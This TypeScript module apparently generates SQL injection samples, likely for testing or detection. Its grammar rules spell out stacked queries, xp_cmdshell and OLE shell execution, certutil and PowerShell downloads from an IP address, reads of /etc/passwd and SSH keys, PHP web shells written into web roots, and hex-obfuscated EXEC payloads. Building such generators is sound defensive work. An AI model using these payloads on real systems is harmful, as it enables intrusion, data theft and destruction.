/** Statements behind a semicolon, files, procedures, and whole queries as a value. */
import {
  bound,
  changed,
  characters,
  HEX_DIGITS,
  integer,
  LOWER_CASE,
  maybe,
  oneOf,
  type Rule,
  text,
  weighted,
  words,
} from '../../grammar.ts';
import { IP_ADDRESS, MARKER } from '../hosts.ts';
import { WORD } from '../plausible-values.ts';
import { CLOSING, COMMENT_OUT, delivered, injected, LEAD } from './frame.ts';
import {
  COLUMN,
  FOUR_DIGITS,
  QUERY,
  SERVER_VALUE,
  STOLEN,
  SYSTEM_COLUMN,
  SYSTEM_TABLE,
  sqlString,
  TABLE,
} from './vocabulary.ts';

const SHELL_COMMAND: Rule = oneOf(
  'whoami',
  'dir c:\\',
  'net user',
  'ipconfig /all',
  text`ping -n ${integer(1, 20)} ${IP_ADDRESS}`,
  text`ping ${IP_ADDRESS}`,
  text`net user ${MARKER} ${MARKER} /add`,
  text`powershell -c "iwr http://${IP_ADDRESS}/${MARKER}"`,
  text`certutil -urlcache -f http://${IP_ADDRESS}/${MARKER}.exe c:\\windows\\temp\\${MARKER}.exe`,
  text`echo ${MARKER} > c:\\inetpub\\wwwroot\\${MARKER}.txt`,
  text`nslookup ${MARKER}.example.com`,
  'id',
);

const MSSQL_STATEMENT: Rule = oneOf(
  text`exec ${oneOf('master..', 'master.dbo.', 'sys.', '')}xp_cmdshell '${SHELL_COMMAND}'`,
  text`execute xp_cmdshell("${SHELL_COMMAND}")`,
  text`exec xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet\\Services\\lanmanserver\\parameters','nullsessionshares'`,
  text`exec sp_configure 'show advanced options',1;reconfigure;exec sp_configure 'xp_cmdshell',1;reconfigure`,
  text`exec sp_configure '${words('xp_cmdshell Ole_Automation_Procedures clr_enabled')}', 1`,
  text`declare @o int;exec sp_oacreate 'wscript.shell',@o out;exec sp_oamethod @o,'run',null,'${SHELL_COMMAND}'`,
  text`declare @${MARKER} varchar(${integer(20, 8000)});set @${MARKER}=${oneOf(sqlString(text`select ${WORD}`), text`cast(0x${characters(HEX_DIGITS, 16, 60)} as varchar(8000))`)};exec(@${MARKER})`,
  text`exec sp_addlogin '${MARKER}','${MARKER}'`,
  text`exec sp_addsrvrolemember '${MARKER}','sysadmin'`,
  text`exec sp_executesql N'${QUERY}'`,
  text`exec('${words('sel ins del')}'+'${words('ect ert ete')} ${COLUMN}')`,
  text`bulk insert ${TABLE} from 'c:\\${words('boot.ini windows\\win.ini inetpub\\web.config')}'`,
  text`insert into openrowset('sqloledb','server=${IP_ADDRESS};uid=sa;pwd=${MARKER}','select 1') ${QUERY}`,
  text`exec sp_makewebtask '\\\\${IP_ADDRESS}\\${MARKER}.html','${QUERY}'`,
  text`shutdown with nowait`,
  text`backup database ${MARKER} to disk='\\\\${IP_ADDRESS}\\${MARKER}'`,
);

const STATEMENT: Rule = weighted(
  [
    4,
    text`drop ${words('table database user view procedure')} ${maybe('if exists ', 0.15)}${TABLE}${maybe(' cascade', 0.1)}`,
  ],
  [3, text`insert into ${TABLE}${maybe(text`(${COLUMN},${COLUMN})`)} values(${sqlString(WORD)},${sqlString(MARKER)})`],
  [3, text`update ${TABLE} set ${COLUMN}=${sqlString(WORD)}${maybe(text` where ${COLUMN}=${sqlString(WORD)}`)}`],
  [
    3,
    text`delete from ${TABLE}${maybe(text` where ${oneOf('1=1', "1 or 1='1'", text`id=${integer(1, 99)}`, text`${COLUMN} like '%'`)}`)}`,
  ],
  [2, text`truncate table ${TABLE}`],
  [3, QUERY],
  [1, text`create ${oneOf('table', 'temp table')} ${MARKER}(${COLUMN} ${words('text int varchar(99)')})`],
  [1, text`create user ${MARKER} ${oneOf(text`identified by '${MARKER}'`, text`with password '${MARKER}'`)}`],
  [
    1,
    text`alter ${oneOf(text`table ${TABLE} add ${COLUMN} int`, text`table ${TABLE} drop column ${COLUMN}`, text`user ${WORD} identified by ${MARKER}`, text`login sa with password='${MARKER}'`)}`,
  ],
  [1, text`grant all privileges on *.* to '${MARKER}'@'%'`],
  [1, text`copy ${MARKER} from '/etc/passwd'`],
  [1, text`copy (select '${MARKER}') to '/var/www/html/${MARKER}.php'`],
  [
    1,
    text`create or replace function ${words('system sys_exec shell')}(cstring) returns int as '/lib/x86_64-linux-gnu/libc.so.6','system' language c strict`,
  ],
  [1, text`drop table if exists ${MARKER};create table ${MARKER}(t text);copy ${MARKER} from program 'id'`],
  [1, text`set @${MARKER}=0x${characters(HEX_DIGITS, 10, 40)};prepare ${MARKER} from @${MARKER};execute ${MARKER}`],
  [1, text`handler ${TABLE} open;handler ${TABLE} read first`],
  [0.7, text`attach database '/var/www/${MARKER}.php' as ${MARKER};create table ${MARKER}.pwn(dataz text)`],
  [0.7, text`rename table ${TABLE} to ${MARKER}`],
  [0.7, text`begin execute immediate 'grant dba to ${MARKER}'; end;`],
  [0.7, text`show ${words('tables databases grants variables processlist')}`],
  [
    0.7,
    text`call ${words('dbms_java.grant_permission dbms_xmlquery.newcontext sys.dbms_export_extension.get_domain_index_tables')}('${MARKER}','x')`,
  ],
  [0.5, text`select lo_import('/etc/passwd',${integer(1000, 9999)})`],
  [0.5, text`replace into ${TABLE} values(${integer(1, 99)},'${MARKER}')`],
  [0.5, text`do $$ begin perform pg_sleep(${integer(1, 9)}); end $$`],
  [5, MSSQL_STATEMENT],
);

const SEMICOLON: Rule = weighted([5, '; '], [5, ';'], [0.5, '%3b'], [0.5, ' ;'], [0.3, ';;']);

/** A second statement behind a semicolon. */
export const stacked: Rule = delivered(
  weighted(
    [8, text`${LEAD}${CLOSING}${SEMICOLON}${STATEMENT}${weighted([5, COMMENT_OUT], [1, ''], [1, ';'])}`],
    [4, text`${integer(0, 999)}${SEMICOLON}${STATEMENT}${weighted([3, COMMENT_OUT], [2, ''], [1, ';'])}`],
    [1, text`;${STATEMENT}${COMMENT_OUT}`],
    [1, text`${LEAD}${CLOSING}${SEMICOLON}${STATEMENT};${STATEMENT}${COMMENT_OUT}`],
  ),
);

/** Calls of procedures, also where a value stands alone. */
export const procedures: Rule = delivered(
  weighted(
    [2, text`${LEAD}${maybe(CLOSING, 0.8)}${SEMICOLON}${MSSQL_STATEMENT}${maybe(COMMENT_OUT, 0.8)}`],
    [1, text`${LEAD}' ${MSSQL_STATEMENT}${COMMENT_OUT}`],
    [1, MSSQL_STATEMENT],
  ),
);

const WRITTEN_FILE: Rule = oneOf(
  text`/var/www/html/${MARKER}.php`,
  text`/tmp/${MARKER}.txt`,
  text`c:/inetpub/wwwroot/${MARKER}.asp`,
  text`c:\\\\xampp\\\\htdocs\\\\${MARKER}.php`,
  text`/usr/share/nginx/html/${MARKER}.html`,
  text`../../htdocs/${MARKER}.php`,
);
const READ_FILE: Rule = oneOf(
  '/etc/passwd',
  '/etc/hosts',
  'c:/boot.ini',
  'c:\\\\windows\\\\win.ini',
  '/var/www/html/config.php',
  '/root/.ssh/id_rsa',
  '/etc/mysql/my.cnf',
);
const CODE: Rule = oneOf(
  "'<?php system($_GET[0]);?>'",
  "'<?php eval($_POST[1]);?>'",
  text`0x3c3f${characters(HEX_DIGITS, 20, 60)}`,
  sqlString(MARKER),
  '"<?=`$_GET[0]`?>"',
);

const FILE_ACCESS: Rule = oneOf(
  text`union select ${maybe('1,')}${CODE} into ${words('outfile dumpfile')} '${WRITTEN_FILE}'`,
  text`union all select ${maybe('null,')}load_file(${sqlString(READ_FILE)})${maybe(',null')}`,
  text`and (select load_file(${sqlString(READ_FILE)})) is not null`,
  text`into outfile '${WRITTEN_FILE}' lines terminated by ${CODE}`,
  text`limit 0,1 into outfile '${WRITTEN_FILE}' lines terminated by 0x${characters(HEX_DIGITS, 10, 40)}`,
  text`union select pg_read_file('${READ_FILE}',0,${integer(100, 9999)})`,
  text`and 1=cast(pg_read_file('${READ_FILE}') as int)`,
  text`union select * from openrowset(bulk '${READ_FILE}',single_clob) as x`,
  text`union select ${STOLEN} from ${TABLE} into outfile '${WRITTEN_FILE}'`,
  text`or utl_file.fopen('/etc','passwd','r') is not null`,
);

/** Reading and writing files through the database. */
export const files: Rule = delivered(injected(FILE_ACCESS));

const LOOKS_UP: Rule = weighted(
  [3, QUERY],
  [2, text`select ${SYSTEM_COLUMN} from ${SYSTEM_TABLE}`],
  [1, text`select ${SYSTEM_COLUMN},${SYSTEM_COLUMN} from ${SYSTEM_TABLE} where ${SYSTEM_COLUMN}=${sqlString(TABLE)}`],
  [1, text`select load_file(${sqlString(READ_FILE)})`],
  [1, text`select ${words('sleep pg_sleep')}(${integer(1, 20)})`],
  [1, text`select cast(${SERVER_VALUE} as int)`],
  [1, text`select concat(${COLUMN},0x3a,${COLUMN}) from ${TABLE}`],
);

/** A subquery where a value belongs, and queries of system tables, also whole. */
export const subqueries: Rule = delivered(
  weighted(
    [4, text`(${LOOKS_UP})`],
    [
      2,
      text`${oneOf(integer(0, 99), text`${LEAD}'`)}${oneOf('-', '+', '||', '*', '/', '^', '=', ' in ', ' = ')}(${LOOKS_UP})${maybe(COMMENT_OUT)}`,
    ],
    [2, text`${LEAD}'||(${LOOKS_UP})||'`],
    [2, text`${LEAD}'+(${LOOKS_UP})+'`],
    [1, text`${COLUMN},(${LOOKS_UP})`],
    [2, text`select ${SYSTEM_COLUMN} from ${SYSTEM_TABLE}${maybe(text` where ${SYSTEM_COLUMN} like '%${WORD}%'`)}`],
    [1, text`select ${SERVER_VALUE}${maybe(text`,${SERVER_VALUE}`)}`],
    [1, text`select concat(${COLUMN},0x3a,${COLUMN}) from ${TABLE}`],
    [1, bound(characters(LOWER_CASE, 1, 3), (alias) => text`(select ${alias}.* from (${LOOKS_UP})${alias})`)],
    [1, text`(select(${COLUMN})from(${TABLE})where(${COLUMN}=${sqlString(WORD)}))`],
  ),
);

/** Values for INSERT and UPDATE that close their own and bring more columns along. */
export const insertContext: Rule = delivered(
  weighted(
    [3, text`${WORD}',${oneOf(SERVER_VALUE, text`(${QUERY})`)})${COMMENT_OUT}`],
    [2, text`${WORD}','${WORD}',(${QUERY}))${COMMENT_OUT}`],
    [2, text`${WORD}'),('${WORD}',(${QUERY}))${COMMENT_OUT}`],
    [2, text`${WORD}', ${COLUMN}=${sqlString(WORD)} where ${COLUMN}=${sqlString(WORD)}${COMMENT_OUT}`],
    [2, text`${WORD}', ${COLUMN}=(${QUERY}) where '1'='1`],
    [1, text`',${COLUMN}=(${QUERY}),${COLUMN}='`],
    [1, text`${integer(0, 99)}),(${integer(0, 99)},(${QUERY}))${COMMENT_OUT}`],
    [1, text`${WORD}'||(${QUERY})||'`],
    [1, text`\\',${SERVER_VALUE},${FOUR_DIGITS})${COMMENT_OUT}`],
    [1, text`${WORD}',${integer(0, 9)}) on duplicate key update ${COLUMN}=${sqlString(WORD)}${COMMENT_OUT}`],
  ),
);

/** A query of which a harmless name is all that went before, in hexadecimal as a whole or cut into variables. */
export const hexadecimalStatements: Rule = delivered(
  bound(QUERY, (query) => {
    const hex = Buffer.from(query).toString('hex');
    const wide = Buffer.from(query, 'utf16le').toString('hex');
    return oneOf(
      text`${LEAD}${maybe(CLOSING, 0.7)};declare @${characters(LOWER_CASE, 1, 3)} nvarchar(4000) set @q=0x${wide} exec(@q)${COMMENT_OUT}`,
      text`${LEAD}${maybe(CLOSING, 0.7)};set @q=0x${hex};prepare s from @q;execute s${COMMENT_OUT}`,
      text`${LEAD}';DECLARE @S VARCHAR(4000);SET @S=CAST(0x${hex.toUpperCase()} AS VARCHAR(4000));EXEC(@S);--`,
      changed(text`${integer(1, 99)};EXECUTE IMMEDIATE 0x${hex}`, (written) => written),
    );
  }),
);
